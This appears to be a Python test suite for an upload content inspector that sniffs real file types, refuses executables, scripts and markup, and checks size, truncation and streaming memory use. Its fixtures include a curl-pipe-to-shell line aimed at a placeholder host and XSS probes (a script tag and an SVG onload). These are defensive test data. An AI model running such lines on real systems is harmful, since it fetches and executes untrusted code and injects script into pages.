"""Uploads are judged by their bytes: what they really are, whether that is allowed, and whether they are whole."""

from __future__ import annotations

import io
import subprocess
import time
import tracemalloc
import wave
from collections.abc import Iterable

import imageio_ffmpeg
import pytest
from PIL import Image

from evidence_store.core.content import DEFAULT_ALLOWED, ContentError, ContentInspector, MediaKind, sniff

MiB = 1024**2


def box(kind: bytes, payload: bytes = b"") -> bytes:
    return (8 + len(payload)).to_bytes(4, "big") + kind + payload


def ftyp(major: bytes, *compatible: bytes) -> bytes:
    return box(b"ftyp", major + b"\x00\x00\x02\x00" + b"".join(compatible or (major,)))


def mp4(major: bytes = b"isom", *compatible: bytes) -> bytes:
    return ftyp(major, *compatible) + box(b"moov", box(b"mvhd", bytes(100))) + box(b"mdat", bytes(3000))


def image(fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "teal").save(out, fmt, **options)
    return out.getvalue()


def wav(frames: int = 800, width: int = 2) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(width)
        w.setframerate(8000)
        w.writeframes(bytes(width * frames))
    return out.getvalue()


def ebml(doctype: bytes) -> bytes:
    header = b"\x42\x86\x81\x01" + b"\x42\x82" + bytes([0x80 | len(doctype)]) + doctype
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(header)]) + header + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" + bytes(64)


PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
MP3 = b"\xff\xfb\x90\x64" + bytes(413)
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(50) + b"This program cannot be run in DOS mode"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def inspect(declared: str, data: bytes, chunk: int = 1000, **options: object) -> MediaKind:
    inspector = ContentInspector(declared, len(data), **options)  # type: ignore[arg-type]
    for start in range(0, len(data), chunk):
        inspector.feed(data[start:start + chunk])
    assert inspector.bytes_seen == len(data)
    return inspector.finish()


def refusal(declared: str, data: bytes, size: int | None = None, chunks: Iterable[bytes] | None = None, **options: object) -> ContentError:
    with pytest.raises(ContentError) as caught:
        inspector = ContentInspector(declared, len(data) if size is None else size, **options)  # type: ignore[arg-type]
        for chunk in chunks if chunks is not None else [data]:
            inspector.feed(chunk)
        inspector.finish()
    return caught.value


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """Real files of every accepted container, made by the ffmpeg binary that imageio-ffmpeg ships."""
    folder = tmp_path_factory.mktemp("media")
    video = ["-f", "lavfi", "-i", "testsrc=duration=1:size=64x48:rate=10"]
    audio = ["-f", "lavfi", "-i", "sine=duration=1:sample_rate=8000"]
    recipes = {"a.mp4": [*video, "-pix_fmt", "yuv420p"], "a.mov": [*video, "-pix_fmt", "yuv420p"], "a.m4a": [*audio, "-c:a", "aac"],
               "a.webm": [*video, "-c:v", "libvpx", "-b:v", "100k"], "voice.webm": [*audio, "-c:a", "libopus"],
               "a.ogg": [*audio, "-c:a", "libvorbis"], "a.mp3": [*audio, "-c:a", "libmp3lame"], "a.wav": audio}
    for name, args in recipes.items():
        subprocess.run([imageio_ffmpeg.get_ffmpeg_exe(), "-v", "error", "-y", *args, str(folder / name)], check=True, timeout=60)
    return {name: (folder / name).read_bytes() for name in recipes}


@pytest.mark.parametrize(("declared", "name", "expected"), [
    ("video/mp4", "a.mp4", "video/mp4"), ("video/quicktime", "a.mov", "video/quicktime"), ("audio/mp4", "a.m4a", "audio/mp4"),
    ("audio/x-m4a", "a.m4a", "audio/mp4"), ("video/webm", "a.webm", "video/webm"), ("audio/webm", "voice.webm", "audio/webm"),
    ("audio/ogg", "a.ogg", "audio/ogg"), ("audio/mpeg", "a.mp3", "audio/mpeg"), ("audio/wav", "a.wav", "audio/wav"),
    ("audio/x-wav", "a.wav", "audio/wav"),
])
@pytest.mark.parametrize("chunk", [1, 997, 8 * MiB])
def test_real_recordings_are_accepted_whole(made: dict[str, bytes], declared: str, name: str, expected: str, chunk: int) -> None:
    kind = inspect(declared, made[name], chunk)
    assert kind.media_type == expected and kind.category == expected.split("/")[0]


@pytest.mark.parametrize(("declared", "data", "category"), [
    ("image/jpeg", image("JPEG"), "image"), ("image/jpg", image("JPEG"), "image"), ("image/png", image("PNG"), "image"),
    ("image/webp", image("WEBP"), "image"), ("image/webp", image("WEBP", lossless=True), "image"),
    ("video/mp4", mp4(b"mp42"), "video"), ("video/mp4", mp4(b"dash", b"iso6", b"avc1"), "video"),
    ("video/quicktime", mp4(b"qt  "), "video"), ("audio/mp4", mp4(b"M4A ", b"M4A ", b"isom"), "audio"),
    ("audio/wav", wav(), "audio"), ("audio/wav", wav(801, width=1), "audio"), ("audio/wav", wav(801, width=1) + b"\x00", "audio"),
    ("audio/mpeg", MP3 * 3, "audio"), ("audio/mpeg", b"ID3\x04\x00\x00\x00\x00\x00\x00" + MP3, "audio"),
    ("audio/ogg", b"OggS\x00\x02" + bytes(100), "audio"), ("video/webm", ebml(b"webm"), "video"),
    ("application/pdf", PDF, "document"),
])
def test_each_allowed_type_is_accepted_when_whole(declared: str, data: bytes, category: str) -> None:
    kind = inspect(declared, data)
    assert kind.category == category
    assert kind.media_type in DEFAULT_ALLOWED


def test_what_the_browser_declares_is_normalised() -> None:
    assert inspect("Image/JPEG", image("JPEG")).media_type == "image/jpeg"
    assert inspect("audio/webm;codecs=opus", ebml(b"webm")).media_type == "audio/webm"


def test_the_mp4_family_keeps_the_declared_type_since_brands_cannot_tell_them_apart() -> None:
    assert inspect("video/quicktime", mp4(b"isom")).media_type == "video/quicktime"
    assert inspect("audio/mp4", mp4(b"mp42")) == MediaKind("audio/mp4", "audio")
    assert inspect("video/mp4", mp4(b"qt  ")).media_type == "video/mp4"


def test_classic_quicktime_without_ftyp_and_a_box_running_to_the_end_are_whole() -> None:
    assert inspect("video/quicktime", box(b"wide") + box(b"mdat", bytes(500)) + box(b"moov", bytes(40))).media_type == "video/quicktime"
    to_end = ftyp(b"isom") + box(b"moov", bytes(40)) + b"\x00\x00\x00\x00mdat" + bytes(7000)
    assert inspect("video/mp4", to_end).media_type == "video/mp4"


@pytest.mark.parametrize(("data", "what"), [
    (PE, "a Windows program"), (ELF, "a Linux program"), (b"\xfe\xed\xfa\xce" + bytes(28), "a macOS program"),
    (b"\xfe\xed\xfa\xcf" + bytes(28), "a macOS program"), (b"\xce\xfa\xed\xfe" + bytes(28), "a macOS program"),
    (b"\xcf\xfa\xed\xfe" + bytes(28), "a macOS program"), (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(40), "a Java class or macOS program"),
    (SCRIPT, "a script"), (b"PK\x03\x04\x14\x00" + bytes(30) + b"META-INF/MANIFEST.MF", "a ZIP archive"),
    (b"<!DOCTYPE html><html><script>alert(1)</script>", "HTML, XML or SVG markup"),
    (b'\xef\xbb\xbf  <?xml version="1.0"?><svg onload="alert(1)"/>', "HTML, XML or SVG markup"),
    (b"fetch('/api').then(r => r.json())", "text (such as a script)"),
])
def test_programs_archives_and_markup_are_refused_by_content(data: bytes, what: str) -> None:
    with pytest.raises(ContentError) as caught:
        sniff(data)
    assert (caught.value.status, caught.value.field) == (415, "content")
    assert what in caught.value.message
    error = refusal("image/png", data)
    assert (error.status, error.field) == (415, "content") and what in error.message
    for fragment in (b"alert", b"curl", b"MANIFEST", b"DOS mode"):
        assert fragment.decode() not in error.message


def test_unknown_formats_are_refused() -> None:
    for data in (bytes(range(256)) * 4, b"\x00" * 64, b"RIFF\x10\x00\x00\x00AVI LIST", ebml(b"matroska")[:4] + b"\x80"):
        assert refusal("image/jpeg", data).status == 415


def test_an_executable_is_refused_while_it_streams_not_at_the_end() -> None:
    inspector = ContentInspector("video/mp4", 50 * MiB)
    with pytest.raises(ContentError) as caught:
        inspector.feed(PE + bytes(MiB))
    assert caught.value.status == 415
    assert inspector.bytes_seen < 2 * MiB


def test_a_declared_type_the_content_is_not_is_refused_saying_what_it_is() -> None:
    error = refusal("image/png", image("JPEG"))
    assert (error.status, error.field, error.message) == (415, "content", "declared image/png but the content is a JPEG image")
    assert refusal("application/pdf", mp4()).message == "declared application/pdf but the content is an MP4 video"
    assert refusal("audio/mpeg", wav()).message == "declared audio/mpeg but the content is a WAV audio file"


def test_heic_is_refused_unless_the_trust_allows_it() -> None:
    heic = ftyp(b"heic", b"mif1", b"heic") + box(b"meta", bytes(60)) + box(b"mdat", bytes(900))
    assert refusal("image/jpeg", heic).message == "declared image/jpeg but the content is a HEIC image, which is not accepted here"
    assert (refusal("image/heic", heic).status, refusal("image/heic", heic).field) == (415, "media_type")
    assert inspect("image/heic", heic, allowed=DEFAULT_ALLOWED | {"image/heic"}) == MediaKind("image/heic", "image")
    mif1 = ftyp(b"mif1", b"mif1", b"miaf") + box(b"meta", bytes(60))
    assert inspect("image/heic", mif1, allowed={"image/heic"}).media_type == "image/heic"


def test_types_the_trust_does_not_allow_are_refused_on_media_type() -> None:
    for declared, allowed in (("application/x-msdownload", DEFAULT_ALLOWED), ("video/mp4", {"image/jpeg", "image/png"}), ("", DEFAULT_ALLOWED)):
        with pytest.raises(ContentError) as caught:
            ContentInspector(declared, 100, allowed)
        assert (caught.value.status, caught.value.field) == (415, "media_type")
        assert "msdownload" not in caught.value.message


def test_sizes_over_the_limit_or_over_what_was_declared_are_refused() -> None:
    with pytest.raises(ContentError) as caught:
        ContentInspector("video/mp4", 11 * MiB, max_size=10 * MiB)
    assert (caught.value.status, caught.value.field) == (413, "size_bytes")
    with pytest.raises(ContentError) as caught:
        ContentInspector("video/mp4", 0)
    assert (caught.value.status, caught.value.field) == (422, "size_bytes")
    data = mp4()
    error = refusal("video/mp4", data, size=len(data) - 10)
    assert (error.status, error.field) == (413, "content")
    inspector = ContentInspector("image/jpeg", 10, max_size=10)
    inspector.feed(b"\xff\xd8\xff\xe0" + bytes(6))
    with pytest.raises(ContentError) as caught:
        inspector.feed(b"\x00")
    assert caught.value.status == 413


def test_empty_and_short_uploads_are_refused() -> None:
    error = refusal("image/jpeg", b"", size=100, chunks=[])
    assert (error.status, error.message) == (422, "the file is empty")
    data = image("JPEG")
    error = refusal("image/jpeg", data, size=len(data) + 1)
    assert error.status == 422 and error.message.startswith("truncated:")


@pytest.mark.parametrize(("declared", "data"), [
    ("image/jpeg", image("JPEG")[:-1]), ("image/jpeg", image("JPEG")[:-200]), ("image/png", image("PNG")[:-12]),
    ("image/png", image("PNG")[:-1]), ("application/pdf", PDF.replace(b"%%EOF", b"%%E0F")),
    ("application/pdf", PDF + bytes(2000)), ("video/mp4", mp4()[:-1]), ("video/mp4", ftyp(b"isom") + box(b"mdat", bytes(5000))),
    ("video/mp4", ftyp(b"isom") + box(b"moov", bytes(40)) + b"\x00\x00\x00"), ("audio/wav", wav()[:-2]), ("image/webp", image("WEBP")[:-4]),
])
def test_a_format_whose_end_is_missing_is_truncated(declared: str, data: bytes) -> None:
    error = refusal(declared, data)
    assert (error.status, error.field) == (422, "content")
    assert error.message.startswith("truncated")


def test_no_moov_box_is_named_in_the_refusal() -> None:
    error = refusal("video/mp4", ftyp(b"isom") + box(b"mdat", bytes(5000)))
    assert "moov" in error.message


def test_data_after_a_riff_chunk_and_damaged_box_headers_are_refused() -> None:
    assert refusal("audio/wav", wav() + bytes(4)).status == 422
    garbage = ftyp(b"isom") + b"\x00\x00\x00\x04moov" + bytes(5000)
    assert refusal("video/mp4", garbage).message == "the content is damaged: a box header is invalid"
    binary_type = ftyp(b"isom") + b"\x00\x00\x00\x10\x00\xff\x01\x02" + bytes(5000)
    assert refusal("video/mp4", binary_type).status == 422


def test_zero_padding_after_the_jpeg_end_marker_is_allowed() -> None:
    assert inspect("image/jpeg", image("JPEG") + bytes(1000)).media_type == "image/jpeg"


def test_a_chunk_boundary_inside_the_jpeg_end_marker() -> None:
    data = image("JPEG")
    inspector = ContentInspector("image/jpeg", len(data))
    inspector.feed(data[:-1])
    inspector.feed(data[-1:])
    assert inspector.finish().media_type == "image/jpeg"


def test_a_chunk_boundary_anywhere_inside_box_headers() -> None:
    data = (ftyp(b"isom") + box(b"free", bytes(5000)) + b"\x00\x00\x00\x01mdat" + (16 + 300).to_bytes(8, "big") + bytes(300)
            + box(b"moov", bytes(30)))
    header_at = len(ftyp(b"isom")) + 5008
    for cut in range(header_at - 2, len(data)):
        inspector = ContentInspector("video/mp4", len(data))
        inspector.feed(data[:cut])
        inspector.feed(data[cut:])
        assert inspector.finish().media_type == "video/mp4"
    assert inspect("video/mp4", data, chunk=1).media_type == "video/mp4"
    assert inspect("video/mp4", data, chunk=3).media_type == "video/mp4"
    cut_short = data[:-5]
    assert refusal("video/mp4", cut_short, chunks=[cut_short[:header_at + 3], cut_short[header_at + 3:]]).message.startswith("truncated")


def _huge_mp4(mdat_size: int, chunk: bytes) -> tuple[int, list[bytes], int]:
    head = ftyp(b"isom", b"isom", b"iso2", b"avc1", b"mp41") + (8 + mdat_size).to_bytes(4, "big") + b"mdat"
    tail = box(b"moov", box(b"mvhd", bytes(100)))
    return len(head) + mdat_size + len(tail), [head, tail], mdat_size // len(chunk)


def test_a_200_mib_video_streams_fast_with_flat_memory() -> None:
    chunk = bytes(8 * MiB)
    size, (head, tail), count = _huge_mp4(200 * MiB, chunk)
    inspector = ContentInspector("video/mp4", size)
    tracemalloc.start()
    started = time.perf_counter()
    inspector.feed(head)
    for _ in range(count):
        inspector.feed(chunk)
    inspector.feed(tail)
    kind = inspector.finish()
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert kind.media_type == "video/mp4" and inspector.bytes_seen == size
    assert elapsed < 2.0
    assert peak < 1 * MiB


def test_small_chunks_do_not_grow_memory_either() -> None:
    chunk = bytes(4096)
    size, (head, tail), count = _huge_mp4(16 * MiB, chunk)
    inspector = ContentInspector("video/mp4", size)
    tracemalloc.start()
    inspector.feed(head)
    for _ in range(count):
        inspector.feed(chunk)
    inspector.feed(tail)
    inspector.finish()
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 1 * MiB
